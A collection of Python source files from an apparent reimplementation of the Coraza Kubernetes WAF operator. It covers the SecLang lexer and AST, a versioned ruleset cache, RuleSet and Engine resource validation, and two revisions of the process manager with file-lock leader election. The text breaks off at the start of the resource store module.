    """Raised for any SecLang syntax/semantic error.

    Mirrors the reference's admission-time validation gate
    (reference: internal/controller/ruleset_controller.go:158-171), where an
    unparsable ruleset marks the RuleSet Degraded.
    """

    def __init__(self, message: str, line: int | None = None):
        self.line = line
        if line is not None:
            message = f"line {line}: {message}"
        super().__init__(message)
