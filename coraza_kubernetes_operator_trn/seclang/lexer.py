"""Logical-line lexer for SecLang.

Handles ``\\``-continuations, ``#`` comments, and whitespace token splitting
with double-quoted tokens (``\\"`` escapes a quote; all other backslashes are
preserved verbatim because they belong to the regex/argument payload).
"""

from __future__ import annotations

from .errors import SecLangError


def logical_lines(text: str) -> list[tuple[int, str]]:
    """Join continuation lines; return (first_line_number, content) pairs."""
    out: list[tuple[int, str]] = []
    pending: list[str] = []
    pending_start = 0
    for i, raw in enumerate(text.splitlines(), start=1):
        line = raw.rstrip()
        stripped = line.strip()
        if not pending and (not stripped or stripped.startswith("#")):
            continue
        if not pending:
            pending_start = i
        if line.endswith("\\"):
            pending.append(line[:-1])
            continue
        pending.append(line)
        out.append((pending_start, "".join(pending)))
        pending = []
    if pending:
        # Trailing continuation: treat as complete (Coraza is lenient here).
        out.append((pending_start, "".join(pending)))
    return out


def split_tokens(line: str, lineno: int) -> list[str]:
    """Split a logical line into whitespace-separated tokens.

    A token may be enclosed in double quotes, inside which ``\\"`` unescapes
    to ``"`` and every other character (including backslashes) is preserved.
    Single quotes are NOT token delimiters at this level (they appear inside
    action arguments and are handled by the action parser).
    """
    tokens: list[str] = []
    i, n = 0, len(line)
    while i < n:
        c = line[i]
        if c.isspace():
            i += 1
            continue
        if c == '"':
            i += 1
            buf: list[str] = []
            closed = False
            while i < n:
                c = line[i]
                if c == "\\" and i + 1 < n and line[i + 1] == '"':
                    buf.append('"')
                    i += 2
                    continue
                if c == '"':
                    closed = True
                    i += 1
                    break
                buf.append(c)
                i += 1
            if not closed:
                raise SecLangError("unterminated double-quoted token", lineno)
            tokens.append("".join(buf))
        else:
            j = i
            while j < n and not line[j].isspace():
                j += 1
            tokens.append(line[i:j])
            i = j
    return tokens
