"""SecLang AST node types.

The parse result is a ``RuleSetAST``: an ordered list of directives, rules and
markers. Rules carry their variables, operator, transformation chain and
actions fully resolved into typed nodes so the compiler and the reference
engine never re-parse strings.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Variable:
    """One variable expression in a SecRule target list.

    ``collection`` is the upper-cased collection name (e.g. ``ARGS``,
    ``REQUEST_HEADERS``, ``TX``). ``selector`` is the optional per-key
    selector after ``:`` (lower-cased, since SecLang selectors are
    case-insensitive); it may be a ``/regex/``-style selector, kept verbatim
    with ``selector_is_regex=True``. ``count`` is the ``&`` prefix (number of
    members instead of values), ``exclude`` the ``!`` prefix (remove from the
    target set).
    """

    collection: str
    selector: str | None = None
    count: bool = False
    exclude: bool = False
    selector_is_regex: bool = False

    def __str__(self) -> str:  # for diagnostics / round-trip tests
        s = ""
        if self.exclude:
            s += "!"
        if self.count:
            s += "&"
        s += self.collection
        if self.selector is not None:
            sel = f"/{self.selector}/" if self.selector_is_regex else self.selector
            s += f":{sel}"
        return s


@dataclass(frozen=True)
class Operator:
    """Rule operator: name (lower-cased, no ``@``), argument string, negation.

    A bare pattern with no ``@op`` means ``@rx`` (SecLang default).
    """

    name: str
    argument: str
    negated: bool = False

    def __str__(self) -> str:
        neg = "!" if self.negated else ""
        return f'{neg}@{self.name} {self.argument}'


@dataclass(frozen=True)
class Transformation:
    name: str  # canonical lower-case, e.g. "urldecodeuni"

    def __str__(self) -> str:
        return f"t:{self.name}"


@dataclass(frozen=True)
class Action:
    """One action: name (lower-cased) and optional raw argument.

    Arguments keep ``%{...}`` macros verbatim; expansion happens at
    evaluation time against the transaction.
    """

    name: str
    argument: str | None = None

    def __str__(self) -> str:
        return self.name if self.argument is None else f"{self.name}:{self.argument}"


# Actions that terminate transaction processing (disruptive).
DISRUPTIVE_ACTIONS = frozenset(
    {"deny", "drop", "block", "redirect", "allow", "pass", "proxy"}
)

# Metadata-only actions.
METADATA_ACTIONS = frozenset(
    {"id", "phase", "msg", "logdata", "tag", "rev", "ver", "severity",
     "maturity", "accuracy"}
)


@dataclass
class Rule:
    """A SecRule or SecAction (SecAction == rule with no targets/operator)."""

    variables: list[Variable] = field(default_factory=list)
    operator: Operator | None = None
    actions: list[Action] = field(default_factory=list)
    transformations: list[Transformation] = field(default_factory=list)
    # every t: name in WRITTEN order, including "none" occurrences that
    # reset `transformations` at parse time — the waf-lint transform-chain
    # checks (analysis/analyzer.py) need the author's chain, not just the
    # resolved one
    written_transforms: list[str] = field(default_factory=list)
    # --- resolved metadata (from actions) ---
    id: int = 0
    phase: int = 2
    has_transforms: bool = False  # any t: action seen (t:none counts)
    chained: bool = False
    chain_rules: list["Rule"] = field(default_factory=list)  # subsequent links
    is_sec_action: bool = False
    raw: str = ""
    line: int = 0

    @property
    def disruptive(self) -> str | None:
        """The disruptive action name, if any (last one wins, like Coraza)."""
        found = None
        for a in self.actions:
            if a.name in DISRUPTIVE_ACTIONS:
                found = a.name
        return found

    def action(self, name: str) -> Action | None:
        for a in self.actions:
            if a.name == name:
                return a
        return None

    def actions_named(self, name: str) -> list[Action]:
        return [a for a in self.actions if a.name == name]

    @property
    def status(self) -> int:
        a = self.action("status")
        return int(a.argument) if a and a.argument else 403


@dataclass(frozen=True)
class Directive:
    """A non-rule engine directive, e.g. ``SecRuleEngine On``."""

    name: str  # canonical case-insensitive key, lower-cased
    args: tuple[str, ...]
    line: int = 0


@dataclass(frozen=True)
class Marker:
    """``SecMarker name`` — a skipAfter target."""

    label: str
    line: int = 0


@dataclass
class RuleSetAST:
    """Ordered parse result. ``items`` preserves source order; ``rules`` is
    the flat rule list (chain heads only) for convenience."""

    items: list[Rule | Directive | Marker] = field(default_factory=list)

    @property
    def rules(self) -> list[Rule]:
        return [i for i in self.items if isinstance(i, Rule)]

    @property
    def directives(self) -> list[Directive]:
        return [i for i in self.items if isinstance(i, Directive)]

    def directive(self, name: str) -> Directive | None:
        name = name.lower()
        found = None
        for d in self.directives:
            if d.name == name:
                found = d
        return found
