"""Versioned compiled-ruleset cache.

Same store semantics as the reference's RuleSetCache (reference:
internal/rulesets/cache/cache.go): per-instance append-only entry list with
a ``latest`` UUID pointer, UUID+timestamp stamped on Put, age- and
size-pruning that never evicts the latest entry. The trn twist: entries
carry the *compiled device artifact* (serialized transition tables,
compiler/artifact.py) alongside the aggregated SecLang text, and the UUID
is content-addressed (same rules -> same UUID -> data-plane pollers skip
reload after no-op recompiles — strictly better than the reference's
random-UUID-per-Put, cache.go:94).
"""

from __future__ import annotations

import hashlib
import threading
import time
from dataclasses import dataclass, field


@dataclass
class RuleSetEntry:
    uuid: str
    timestamp: float
    rules: str  # aggregated SecLang text
    artifact: bytes = b""  # serialized compiled tables (may be empty)

    @property
    def size(self) -> int:
        return len(self.rules) + len(self.artifact)


@dataclass
class _Instance:
    entries: list[RuleSetEntry] = field(default_factory=list)
    latest: str = ""


def content_uuid(rules: str, artifact: bytes = b"") -> str:
    """Content-addressed entry id (uuid-shaped hex of sha256)."""
    h = hashlib.sha256()
    h.update(rules.encode("utf-8", "surrogateescape"))
    h.update(b"\x00")
    h.update(artifact)
    d = h.hexdigest()
    return f"{d[:8]}-{d[8:12]}-{d[12:16]}-{d[16:20]}-{d[20:32]}"


class RuleSetCache:
    """Thread-safe versioned store keyed ``ns/name``."""

    def __init__(self) -> None:
        self._lock = threading.RLock()
        self._instances: dict[str, _Instance] = {}

    def put(self, key: str, rules: str, artifact: bytes = b"") -> RuleSetEntry:
        """Store a new version; returns the stamped entry. A put whose
        content matches the current latest is a no-op returning it."""
        uid = content_uuid(rules, artifact)
        with self._lock:
            inst = self._instances.setdefault(key, _Instance())
            if inst.latest == uid:
                for e in reversed(inst.entries):
                    if e.uuid == uid:
                        return e
            entry = RuleSetEntry(uuid=uid, timestamp=time.time(),
                                 rules=rules, artifact=artifact)
            inst.entries.append(entry)
            inst.latest = uid
            return entry

    def get(self, key: str, uuid: str | None = None) -> RuleSetEntry | None:
        """Latest entry (or a specific version by UUID)."""
        with self._lock:
            inst = self._instances.get(key)
            if inst is None or not inst.entries:
                return None
            if uuid is None:
                uuid = inst.latest
            for e in reversed(inst.entries):
                if e.uuid == uuid:
                    return e
            return None

    def list_keys(self) -> list[str]:
        with self._lock:
            return [k for k, inst in self._instances.items()
                    if inst.entries]

    def total_size(self) -> int:
        with self._lock:
            return sum(e.size for inst in self._instances.values()
                       for e in inst.entries)

    def delete(self, key: str) -> bool:
        with self._lock:
            return self._instances.pop(key, None) is not None

    # -- pruning (reference: cache.go:155-231) -----------------------------
    def prune(self, max_age_seconds: float) -> int:
        """Drop entries older than max_age, never the latest. Returns the
        number pruned."""
        cutoff = time.time() - max_age_seconds
        pruned = 0
        with self._lock:
            for inst in self._instances.values():
                keep = []
                for e in inst.entries:
                    if e.timestamp < cutoff and e.uuid != inst.latest:
                        pruned += 1
                    else:
                        keep.append(e)
                inst.entries = keep
        return pruned

    def prune_by_size(self, max_total_bytes: int) -> int:
        """Drop oldest non-latest entries until under the cap. Returns the
        number pruned."""
        pruned = 0
        with self._lock:
            while self.total_size() > max_total_bytes:
                oldest_key = None
                oldest_i = -1
                oldest_ts = float("inf")
                for key, inst in self._instances.items():
                    for i, e in enumerate(inst.entries):
                        if e.uuid == inst.latest:
                            continue
                        if e.timestamp < oldest_ts:
                            oldest_key, oldest_i, oldest_ts = key, i, \
                                e.timestamp
                if oldest_key is None:
                    break  # only latest entries remain: never evicted
                self._instances[oldest_key].entries.pop(oldest_i)
                pruned += 1
        return pruned
