"""Control plane: the operator layer of the trn-native WAF framework.

Behavioral re-implementation of the reference operator's control plane
(reference: SURVEY.md §1 layers [A]-[C], cmd/main.go, internal/):

- api: RuleSet/Engine resource types + the CRD/CEL validation rules
- store: in-memory namespaced object store with watches (the reconcile
  substrate; a real deployment would back it with the kube API)
- cache: versioned compiled-artifact cache (UUID + timestamp entries)
- server: HTTP artifact server with the /rules/{key} + /latest protocol
- controllers: RuleSet compile-and-cache + Engine provisioning reconcilers
- manager: process assembly (controllers + cache server + health)
"""

from .api import (
    Condition,
    ConfigMap,
    DriverConfig,
    Engine,
    EngineSpec,
    FailurePolicy,
    IstioDriverConfig,
    IstioWasmConfig,
    ObjectMeta,
    RuleSet,
    RuleSetCacheServerConfig,
    RuleSetSpec,
    RuleSourceReference,
    RuleSetReference,
    TrainiumDriverConfig,
    ValidationError,
)
from .cache import RuleSetCache, RuleSetEntry
from .store import Event, ResourceStore

__all__ = [
    "Condition", "ConfigMap", "DriverConfig", "Engine", "EngineSpec",
    "FailurePolicy", "IstioDriverConfig", "IstioWasmConfig", "ObjectMeta",
    "RuleSet", "RuleSetCacheServerConfig", "RuleSetSpec",
    "RuleSourceReference", "RuleSetReference", "TrainiumDriverConfig",
    "ValidationError", "RuleSetCache", "RuleSetEntry", "Event",
    "ResourceStore",
]
