"""Resource types for group ``waf.k8s.coraza.io/v1alpha1``.

The two public resources (RuleSet, Engine) keep the reference CRDs' exact
field surface and validation semantics (reference: api/v1alpha1/
ruleset_types.go, engine_types.go, engine_driver_types.go,
engine_driver_istio_types.go) so manifests written for the reference work
unchanged. Validation that the reference pushes into OpenAPI schema + CEL
XValidation rules runs here in ``validate()`` — same error messages where
the reference defines them.

One extension beyond the reference surface: ``DriverConfig.trainium``
(exactly-one with ``istio``), configuring the trn-native data plane the
framework ships instead of the external WASM module.
"""

from __future__ import annotations

import re
import time
from dataclasses import dataclass, field
from typing import Any

GROUP = "waf.k8s.coraza.io"
VERSION = "v1alpha1"
GROUP_VERSION = f"{GROUP}/{VERSION}"


class ValidationError(ValueError):
    """Schema/CEL-equivalent admission failure; message lists all errors."""

    def __init__(self, errors: list[str]):
        self.errors = errors
        super().__init__("; ".join(errors))


def _now() -> float:
    return time.time()


@dataclass
class ObjectMeta:
    name: str = ""
    namespace: str = "default"
    labels: dict[str, str] = field(default_factory=dict)
    annotations: dict[str, str] = field(default_factory=dict)
    generation: int = 1
    resource_version: int = 0
    uid: str = ""
    creation_timestamp: float = field(default_factory=_now)
    owner_references: list["OwnerReference"] = field(default_factory=list)
    deleted: bool = False

    @property
    def key(self) -> str:
        return f"{self.namespace}/{self.name}"


@dataclass
class OwnerReference:
    api_version: str
    kind: str
    name: str
    uid: str
    controller: bool = True


@dataclass
class Condition:
    """metav1.Condition equivalent: type/status/reason/message tracking."""

    type: str  # Ready | Progressing | Degraded
    status: str  # "True" | "False" | "Unknown"
    reason: str = ""
    message: str = ""
    observed_generation: int = 0
    last_transition_time: float = field(default_factory=_now)


def set_condition(conditions: list[Condition], cond: Condition) -> None:
    """Upsert by type, keeping last_transition_time if status unchanged."""
    for i, c in enumerate(conditions):
        if c.type == cond.type:
            if c.status == cond.status:
                cond.last_transition_time = c.last_transition_time
            conditions[i] = cond
            return
    conditions.append(cond)


def get_condition(conditions: list[Condition], type_: str) -> Condition | None:
    for c in conditions:
        if c.type == type_:
            return c
    return None


# ---------------------------------------------------------------------------
# ConfigMap (the rule-source carrier, as in the reference)


@dataclass
class ConfigMap:
    metadata: ObjectMeta
    data: dict[str, str] = field(default_factory=dict)

    kind = "ConfigMap"
    api_version = "v1"

    def validate(self) -> None:
        if not self.metadata.name:
            raise ValidationError(["metadata.name: Required value"])


# ---------------------------------------------------------------------------
# RuleSet


@dataclass
class RuleSourceReference:
    """Reference to a same-namespace ConfigMap holding a ``rules`` key
    (reference: ruleset_types.go:23-30)."""

    name: str


@dataclass
class RuleSetCacheServerConfig:
    """Poll configuration for the data plane's artifact refresh
    (reference: ruleset_types.go:131-146; bounds 1..3600, default 15)."""

    poll_interval_seconds: int = 15

    def validate(self, path: str, errors: list[str]) -> None:
        if not (1 <= self.poll_interval_seconds <= 3600):
            errors.append(
                f"{path}.pollIntervalSeconds: Invalid value: "
                f"{self.poll_interval_seconds}: must be between 1 and 3600")


@dataclass
class RuleSetSpec:
    """Ordered ConfigMap references, 1..2048
    (reference: ruleset_types.go:91-102)."""

    rules: list[RuleSourceReference] = field(default_factory=list)


@dataclass
class RuleSetStatus:
    conditions: list[Condition] = field(default_factory=list)


@dataclass
class RuleSet:
    metadata: ObjectMeta
    spec: RuleSetSpec
    status: RuleSetStatus = field(default_factory=RuleSetStatus)

    kind = "RuleSet"
    api_version = GROUP_VERSION

    MAX_RULES = 2048

    def validate(self) -> None:
        errors: list[str] = []
        if not self.metadata.name:
            errors.append("metadata.name: Required value")
        if len(self.spec.rules) < 1:
            errors.append(
                "spec.rules: Invalid value: must have at least 1 items")
        if len(self.spec.rules) > self.MAX_RULES:
            errors.append(
                f"spec.rules: Too many: {len(self.spec.rules)}: "
                f"must have at most {self.MAX_RULES} items")
        for i, ref in enumerate(self.spec.rules):
            if not ref.name:
                errors.append(
                    f"spec.rules[{i}].name: Invalid value: "
                    "must be at least 1 chars long")
        if errors:
            raise ValidationError(errors)


# ---------------------------------------------------------------------------
# Engine + driver tree


@dataclass
class RuleSetReference:
    """Same-namespace RuleSet reference (reference: engine_types.go:23-30)."""

    name: str


class FailurePolicy:
    """fail = block traffic on WAF failure, allow = fail open
    (reference: engine_types.go:153-166)."""

    FAIL = "fail"
    ALLOW = "allow"
    ALL = (FAIL, ALLOW)


@dataclass
class IstioWasmConfig:
    """WASM-plugin deployment config (reference:
    engine_driver_istio_types.go:44-82)."""

    image: str = ""
    mode: str = "gateway"
    workload_selector: dict[str, str] | None = None  # matchLabels
    ruleset_cache_server: RuleSetCacheServerConfig | None = None

    def validate(self, path: str, errors: list[str]) -> None:
        if self.mode != "gateway":
            errors.append(
                f'{path}.mode: Unsupported value: "{self.mode}": '
                'supported values: "gateway"')
        if self.mode == "gateway" and self.workload_selector is None:
            # reference CEL: engine_driver_istio_types.go:32
            errors.append(
                f"{path}: Invalid value: "
                "workloadSelector is required when mode is gateway")
        if not self.image:
            errors.append(
                f"{path}.image: Invalid value: "
                "must be at least 1 chars long")
        elif not re.match(r"^oci://", self.image):
            errors.append(
                f'{path}.image: Invalid value: "{self.image}": '
                "must match pattern ^oci://")
        elif len(self.image) > 1024:
            errors.append(
                f"{path}.image: Too long: must have at most 1024 bytes")
        if self.ruleset_cache_server is not None:
            self.ruleset_cache_server.validate(
                f"{path}.ruleSetCacheServer", errors)


@dataclass
class IstioDriverConfig:
    """Exactly-one integration mode (reference:
    engine_driver_istio_types.go:32)."""

    wasm: IstioWasmConfig | None = None

    def validate(self, path: str, errors: list[str]) -> None:
        if sum(x is not None for x in (self.wasm,)) != 1:
            errors.append(
                f"{path}: Invalid value: exactly one integration mechanism "
                "(Wasm, etc) must be specified")
            return
        self.wasm.validate(f"{path}.wasm", errors)


@dataclass
class TrainiumDriverConfig:
    """The trn-native data plane: a micro-batching inspection sidecar
    dispatching to NeuronCore-resident compiled automata. Framework
    extension (no reference equivalent — replaces the external
    coraza-proxy-wasm data plane, SURVEY.md §1[D])."""

    # which device mesh slice serves this engine
    cores: int = 1
    # micro-batching window (µs) traded against p99 added latency
    max_batch_delay_us: int = 500
    max_batch_size: int = 256
    workload_selector: dict[str, str] | None = None
    ruleset_cache_server: RuleSetCacheServerConfig | None = None

    def validate(self, path: str, errors: list[str]) -> None:
        if not (1 <= self.cores <= 64):
            errors.append(
                f"{path}.cores: Invalid value: {self.cores}: "
                "must be between 1 and 64")
        if not (0 <= self.max_batch_delay_us <= 100_000):
            errors.append(
                f"{path}.maxBatchDelayUs: Invalid value: "
                f"{self.max_batch_delay_us}: must be between 0 and 100000")
        if not (1 <= self.max_batch_size <= 8192):
            errors.append(
                f"{path}.maxBatchSize: Invalid value: "
                f"{self.max_batch_size}: must be between 1 and 8192")
        if self.ruleset_cache_server is not None:
            self.ruleset_cache_server.validate(
                f"{path}.ruleSetCacheServer", errors)


@dataclass
class DriverConfig:
    """Discriminated union; exactly one driver
    (reference CEL: engine_driver_types.go:27-33)."""

    istio: IstioDriverConfig | None = None
    trainium: TrainiumDriverConfig | None = None

    def validate(self, path: str, errors: list[str]) -> None:
        present = sum(x is not None for x in (self.istio, self.trainium))
        if present != 1:
            errors.append(
                f"{path}: Invalid value: exactly one driver must be "
                "specified")
            return
        if self.istio is not None:
            self.istio.validate(f"{path}.istio", errors)
        if self.trainium is not None:
            self.trainium.validate(f"{path}.trainium", errors)


@dataclass
class EngineSpec:
    ruleset: RuleSetReference = field(
        default_factory=lambda: RuleSetReference(""))
    driver: DriverConfig = field(default_factory=DriverConfig)
    failure_policy: str = FailurePolicy.FAIL

    def validate(self, errors: list[str]) -> None:
        if not self.ruleset.name:
            errors.append(
                "spec.ruleSet.name: Invalid value: "
                "must be at least 1 chars long")
        if self.failure_policy not in FailurePolicy.ALL:
            errors.append(
                f'spec.failurePolicy: Unsupported value: '
                f'"{self.failure_policy}": supported values: "fail", '
                '"allow"')
        self.driver.validate("spec.driver", errors)


@dataclass
class EngineStatus:
    conditions: list[Condition] = field(default_factory=list)


@dataclass
class Engine:
    metadata: ObjectMeta
    spec: EngineSpec
    status: EngineStatus = field(default_factory=EngineStatus)

    kind = "Engine"
    api_version = GROUP_VERSION

    def validate(self) -> None:
        errors: list[str] = []
        if not self.metadata.name:
            errors.append("metadata.name: Required value")
        self.spec.validate(errors)
        if errors:
            raise ValidationError(errors)


# ---------------------------------------------------------------------------
# The data-plane attachment object the Engine controller owns. For the
# istio.wasm driver this mirrors the reference's WasmPlugin unstructured
# (reference: engine_controller_driver_istio.go:93-130); for the trainium
# driver it is the binding consumed by the trn inspection sidecar.


@dataclass
class InspectionBinding:
    metadata: ObjectMeta
    driver: str = ""  # "istio-wasm" | "trainium"
    url: str = ""  # istio-wasm: oci image url
    plugin_config: dict[str, Any] = field(default_factory=dict)
    selector: dict[str, str] = field(default_factory=dict)
    failure_policy: str = FailurePolicy.FAIL

    kind = "InspectionBinding"
    api_version = GROUP_VERSION

    def validate(self) -> None:
        if not self.metadata.name:
            raise ValidationError(["metadata.name: Required value"])
