"""Process assembly — the ``cmd/main.go`` equivalent.

Wires the resource store, the versioned artifact cache + HTTP server, both
reconcilers, and health probes into one Manager (reference: cmd/main.go:
71-238, internal/controller/manager.go:49-69). Leader election is a
single-process stub (the reference's HA is explicitly 1-replica,
charts values.yaml:6-8); the cache server runs regardless of leadership
(reference: NeedLeaderElection()=false, server.go:135-137).
"""

from __future__ import annotations

import argparse
import logging
import threading

from .cache import RuleSetCache
from .controllers import (
    EngineReconciler,
    EventRecorder,
    RuleSetReconciler,
)
from .server import (
    DEFAULT_PORT,
    CacheServer,
    GarbageCollectionConfig,
)
from .store import ResourceStore

log = logging.getLogger("manager")


class Manager:
    def __init__(self, envoy_cluster_name: str,
                 cache_server_addr: str = "127.0.0.1",
                 cache_server_port: int = DEFAULT_PORT,
                 gc: GarbageCollectionConfig | None = None,
                 compile_artifacts: bool = True) -> None:
        if not envoy_cluster_name:
            # reference hard-fails without it (cmd/main.go:112-115)
            raise ValueError("envoy-cluster-name is required")
        self.store = ResourceStore()
        self.cache = RuleSetCache()
        self.recorder = EventRecorder()
        self.cache_server = CacheServer(
            self.cache, cache_server_addr, cache_server_port, gc)
        self.ruleset_controller = RuleSetReconciler(
            self.store, self.recorder, self.cache,
            compile_artifacts=compile_artifacts)
        self.engine_controller = EngineReconciler(
            self.store, self.recorder, envoy_cluster_name)
        self._started = threading.Event()

    # -- health (reference: cmd/main.go:224-230) ---------------------------
    def healthz(self) -> bool:
        return True

    def readyz(self) -> bool:
        return self._started.is_set()

    # -- lifecycle ---------------------------------------------------------
    def start(self) -> None:
        self.cache_server.start()
        self.ruleset_controller.start()
        self.engine_controller.start()
        # level-trigger: reconcile everything already in the store
        for rs in self.store.list("RuleSet"):
            self.ruleset_controller.enqueue(
                rs.metadata.namespace, rs.metadata.name)
        for eng in self.store.list("Engine"):
            self.engine_controller.enqueue(
                eng.metadata.namespace, eng.metadata.name)
        self._started.set()
        log.info("manager started (cache server :%d)",
                 self.cache_server.port)

    def stop(self) -> None:
        self.ruleset_controller.stop()
        self.engine_controller.stop()
        self.cache_server.stop()
        self._started.clear()


def main(argv: list[str] | None = None) -> Manager:
    p = argparse.ArgumentParser("coraza-trn-operator")
    # flag surface mirrors cmd/main.go:86-108
    p.add_argument("--envoy-cluster-name", required=True)
    p.add_argument("--ruleset-cache-server-port", type=int,
                   default=DEFAULT_PORT)
    p.add_argument("--ruleset-cache-server-addr", default="0.0.0.0")
    p.add_argument("--cache-gc-interval", type=float, default=300.0)
    p.add_argument("--cache-max-entry-age", type=float, default=24 * 3600.0)
    p.add_argument("--cache-max-size", type=int, default=100 * 1024 * 1024)
    p.add_argument("--leader-elect", action="store_true")
    p.add_argument("--zap-devel", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.zap_devel else logging.INFO)
    mgr = Manager(
        envoy_cluster_name=args.envoy_cluster_name,
        cache_server_addr=args.ruleset_cache_server_addr,
        cache_server_port=args.ruleset_cache_server_port,
        gc=GarbageCollectionConfig(
            interval_seconds=args.cache_gc_interval,
            max_entry_age_seconds=args.cache_max_entry_age,
            max_total_bytes=args.cache_max_size))
    mgr.start()
    return mgr


if __name__ == "__main__":
    import signal

    m = main()
    signal.sigwait({signal.SIGINT, signal.SIGTERM})
    m.stop()
