"""Process assembly — the ``cmd/main.go`` equivalent.

Wires the resource store, the versioned artifact cache + HTTP server, both
reconcilers, and health probes into one Manager (reference: cmd/main.go:
71-238, internal/controller/manager.go:49-69). ``--leader-elect`` takes an
exclusive file lease before starting the reconcilers, so two managers
pointed at the same lease file never reconcile concurrently (the reference
uses a k8s Lease with ID "waf.k8s.coraza.io", cmd/main.go:185); the cache
server runs on every replica regardless of leadership (reference:
NeedLeaderElection()=false, server.go:135-137).
"""

from __future__ import annotations

import argparse
import fcntl
import logging
import os
import tempfile
import threading
import time

from .cache import RuleSetCache
from .controllers import (
    EngineReconciler,
    EventRecorder,
    RuleSetReconciler,
)
from .server import (
    DEFAULT_PORT,
    CacheServer,
    GarbageCollectionConfig,
)
from .store import ResourceStore

log = logging.getLogger("manager")


LEADER_ELECTION_ID = "waf.k8s.coraza.io"  # reference: cmd/main.go:185


class LeaderLease:
    """Exclusive-flock lease. ``acquire`` polls until this process holds
    the lock or ``stop_event`` is set; the lock dies with the fd so a
    crashed leader releases implicitly (the file-system analog of a k8s
    coordination Lease). O_NOFOLLOW guards the shared-tempdir default
    against symlink planting; deployments should pass
    ``--leader-elect-lease-path`` on a private volume."""

    def __init__(self, path: str | None = None) -> None:
        self.path = path or os.path.join(
            tempfile.gettempdir(), f"{LEADER_ELECTION_ID}.{os.getuid()}.lock")
        self._fd: int | None = None

    def acquire(self, stop_event: threading.Event | None = None,
                poll_interval: float = 0.1) -> bool:
        """True once held; False if stop_event was set first."""
        fd = os.open(self.path,
                     os.O_CREAT | os.O_RDWR | os.O_NOFOLLOW, 0o644)
        try:
            while True:
                try:
                    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
                    # the leader may release in the window between
                    # stop_event.wait() timing out and this flock; winning
                    # the lock after stop() must not let a stopped standby
                    # start reconcilers
                    if stop_event is not None and stop_event.is_set():
                        os.close(fd)
                        return False
                    break
                except BlockingIOError:
                    if stop_event is None:
                        time.sleep(poll_interval)
                    elif stop_event.wait(poll_interval):
                        os.close(fd)
                        return False
        except BaseException:
            os.close(fd)
            raise
        os.ftruncate(fd, 0)
        os.write(fd, str(os.getpid()).encode())
        self._fd = fd
        return True

    def release(self) -> None:
        if self._fd is not None:
            fcntl.flock(self._fd, fcntl.LOCK_UN)
            os.close(self._fd)
            self._fd = None


class Manager:
    def __init__(self, envoy_cluster_name: str,
                 cache_server_addr: str = "127.0.0.1",
                 cache_server_port: int = DEFAULT_PORT,
                 gc: GarbageCollectionConfig | None = None,
                 compile_artifacts: bool = True,
                 leader_elect: bool = False,
                 lease_path: str | None = None) -> None:
        if not envoy_cluster_name:
            # reference hard-fails without it (cmd/main.go:112-115)
            raise ValueError("envoy-cluster-name is required")
        self.store = ResourceStore()
        self.cache = RuleSetCache()
        self.recorder = EventRecorder()
        self.cache_server = CacheServer(
            self.cache, cache_server_addr, cache_server_port, gc)
        self.ruleset_controller = RuleSetReconciler(
            self.store, self.recorder, self.cache,
            compile_artifacts=compile_artifacts)
        self.engine_controller = EngineReconciler(
            self.store, self.recorder, envoy_cluster_name)
        self.lease = LeaderLease(lease_path) if leader_elect else None
        self._started = threading.Event()
        self._stopping = threading.Event()
        self._ready_checks: list = []

    # -- health (reference: cmd/main.go:224-230) ---------------------------
    def healthz(self) -> bool:
        return True

    def add_ready_check(self, fn) -> None:
        """Register an extra readiness predicate (() -> bool). The data
        plane wires its degradation state machine here — e.g.
        ``mgr.add_ready_check(lambda: batcher.health() != "shedding")``
        — so a saturated replica drops out of rotation (the runtime
        analog of the reference's mgr.AddReadyzCheck, cmd/main.go:
        224-230). A check that raises counts as not ready."""
        self._ready_checks.append(fn)

    def readyz(self) -> bool:
        if not self._started.is_set():
            return False
        for fn in self._ready_checks:
            try:
                if not fn():
                    return False
            except Exception:
                return False
        return True

    # -- lifecycle ---------------------------------------------------------
    def start(self) -> None:
        # non-elected components first: every replica serves the cache
        self._stopping.clear()
        self.cache_server.start()
        if self.lease is not None:
            log.info("waiting for leader lease %s", self.lease.path)
            if not self.lease.acquire(self._stopping):
                log.info("stopped while standing by for lease")
                return  # stop() raced us: stay a non-leader replica
            log.info("acquired leader lease")
        self.ruleset_controller.start()
        self.engine_controller.start()
        # level-trigger: reconcile everything already in the store
        for rs in self.store.list("RuleSet"):
            self.ruleset_controller.enqueue(
                rs.metadata.namespace, rs.metadata.name)
        for eng in self.store.list("Engine"):
            self.engine_controller.enqueue(
                eng.metadata.namespace, eng.metadata.name)
        self._started.set()
        log.info("manager started (cache server :%d)",
                 self.cache_server.port)

    def stop(self) -> None:
        self._stopping.set()  # unblocks a start() waiting on the lease
        self.ruleset_controller.stop()
        self.engine_controller.stop()
        self.cache_server.stop()
        if self.lease is not None:
            self.lease.release()
        self._started.clear()


def main(argv: list[str] | None = None) -> Manager:
    p = argparse.ArgumentParser("coraza-trn-operator")
    # flag surface mirrors cmd/main.go:86-108
    p.add_argument("--envoy-cluster-name", required=True)
    p.add_argument("--ruleset-cache-server-port", type=int,
                   default=DEFAULT_PORT)
    p.add_argument("--ruleset-cache-server-addr", default="0.0.0.0")
    p.add_argument("--cache-gc-interval", type=float, default=300.0)
    p.add_argument("--cache-max-entry-age", type=float, default=24 * 3600.0)
    p.add_argument("--cache-max-size", type=int, default=100 * 1024 * 1024)
    p.add_argument("--leader-elect", action="store_true")
    p.add_argument("--leader-elect-lease-path", default=None)
    p.add_argument("--zap-devel", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.zap_devel else logging.INFO)
    mgr = Manager(
        envoy_cluster_name=args.envoy_cluster_name,
        cache_server_addr=args.ruleset_cache_server_addr,
        cache_server_port=args.ruleset_cache_server_port,
        gc=GarbageCollectionConfig(
            interval_seconds=args.cache_gc_interval,
            max_entry_age_seconds=args.cache_max_entry_age,
            max_total_bytes=args.cache_max_size),
        leader_elect=args.leader_elect,
        lease_path=args.leader_elect_lease_path)
    mgr.start()
    return mgr


if __name__ == "__main__":
    import signal

    m = main()
    signal.sigwait({signal.SIGINT, signal.SIGTERM})
    m.stop()
