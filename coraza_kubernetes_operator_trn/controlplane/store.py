"""In-memory namespaced resource store with watches — the reconcile
substrate.

Plays the role the kube-apiserver plays for the reference's controllers
(reference: SURVEY.md §1[B]): typed objects keyed (kind, ns/name), admission
validation on write, resourceVersion bumps, watch fan-out, owner-reference
garbage collection, and a server-side-apply-style upsert. Controllers watch
